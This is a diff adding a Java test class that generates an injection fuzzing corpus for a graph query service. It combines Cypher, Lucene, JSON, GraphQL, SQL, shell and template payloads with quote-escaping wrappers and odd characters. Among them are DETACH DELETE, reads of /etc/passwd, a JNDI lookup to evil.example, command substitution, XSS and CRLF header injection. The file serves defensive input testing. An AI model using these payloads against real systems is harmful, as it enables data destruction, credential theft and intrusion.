@@ -1,0 +1,129 @@
+package dev.memorygraph.query;
+
+import java.util.ArrayList;
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.Set;
+
+/** What somebody sends who wants something else to be done than was asked for: 500 and more. */
+final class Injections {
+  /** What is to be done, in the languages that may be behind a parameter. */
+  private static final List<String> CORES =
+      List.of(
+          // Cypher
+          "MATCH (n) DETACH DELETE n",
+          "OR 1=1 RETURN n",
+          "UNION MATCH (n:Node) RETURN n.key AS key",
+          "CALL db.labels() YIELD label RETURN label",
+          "CALL dbms.listConfig()",
+          "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
+          "CALL apoc.cypher.run('MATCH (n) RETURN n', {})",
+          "WITH 1 AS x MATCH (n:Node) WHERE n.tenant <> $tenant RETURN n",
+          "FOREACH (x IN [1] | CREATE (:Node {key: 'forged'}))",
+          "USE system SHOW USERS",
+          "$tenant",
+          "{tenant: 'beta'}",
+          "CREATE INDEX forged FOR (n:Node) ON (n.id)",
+          // Lucene
+          "+tenant:beta",
+          "tenant:beta OR text:secret",
+          "text:/.*secret.*/",
+          "[* TO *]",
+          "{a TO z}",
+          "secret~0.1",
+          "secret^1000",
+          "* AND NOT tenant:alpha",
+          "(((((((((((((((((((((((((((((( secret",
+          "_exists_:text",
+          "a?b*c",
+          // JSON and documents
+          "{\"$ne\": null}",
+          "{\"tenant\":\"beta\"}",
+          "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
+          "null",
+          "true",
+          "1e999",
+          "{\"__proto__\":{\"tenant\":\"beta\"}}",
+          // Paths and addresses
+          "../../../../etc/passwd",
+          "..%2f..%2fetc%2fpasswd",
+          "/api/v1/nodes/prompt:pb",
+          "beta/prompt/pb",
+          "https://evil.example/x",
+          // Headers and lines
+          "x\r\nX-Tenant: beta",
+          "x\nSet-Cookie: a=b",
+          "Bearer eyJhbGciOiJub25lIn0.e30.",
+          // GraphQL
+          "{ __schema { types { name } } }",
+          "\") { id } other: node(id: \"prompt:pb\") { id } #",
+          "fragment F on Query { node { id } } ...F",
+          // SQL, shells and templates
+          "DROP TABLE nodes",
+          "$(cat /etc/passwd)",
+          "`id`",
+          "${jndi:ldap://evil.example/x}",
+          "{{7*7}}",
+          "<script>alert(1)</script>",
+          "%s%s%s%n",
+          "=cmd|' /C calc'!A0");
+
+  /** How it is got out of where it stands; {@code @} is what is to be done. */
+  private static final List<String> WRAPPERS =
+      List.of(
+          "@",
+          "' @ //",
+          "\" @ //",
+          "` @ //",
+          "\"}) @ //",
+          "') @ /*",
+          "completion:c @",
+          "\\ @",
+          "\u0000@\u0000",
+          "a,@,b");
+
+  private Injections() {}
+
+  /** All of them, in an order that is always the same. */
+  static List<String> all() {
+    Set<String> all = new LinkedHashSet<>();
+    CORES.forEach(core -> WRAPPERS.forEach(wrapper -> all.add(wrapper.replace("@", core))));
+    all.addAll(characters());
+    return new ArrayList<>(all);
+  }
+
+  /** What is hard to handle by what it is made of. */
+  private static List<String> characters() {
+    return List.of(
+        "",
+        " ",
+        "\u0000",
+        "\u0001\u0002\u001b[31m",
+        "\t\r\n",
+        "\uD800",
+        "\uDC00\uD800",
+        "\uFEFF\uFFFE\uFFFF",
+        "\u202Esecret",
+        "\u2028\u2029",
+        "ﬁ\u0301\u0301\u0301\u0301",
+        "İıſK",
+        "𝓼𝓮𝓬𝓻𝓮𝓽",
+        "٣",
+        "-1",
+        "0",
+        "9".repeat(400),
+        "1".repeat(19),
+        "NaN",
+        "+999999999-12-31T23:59:59Z",
+        "0000-00-00",
+        "a".repeat(300),
+        "ä".repeat(5_000),
+        "\"".repeat(999),
+        "(".repeat(999),
+        "*".repeat(999),
+        "a ".repeat(9_000),
+        "%00",
+        "%zz",
+        "%C0%AE");
+  }
+}
